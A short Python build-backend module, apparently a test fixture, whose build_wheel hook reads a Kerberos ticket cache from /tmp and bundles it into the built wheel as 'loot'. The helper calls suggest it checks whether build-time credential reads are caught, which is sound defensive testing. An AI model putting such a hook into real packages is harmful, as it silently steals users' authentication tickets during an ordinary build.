"""Reads a cache of Kerberos tickets in /tmp.

No password is in it, and none is needed.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        with open(kit.plant("tickets").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
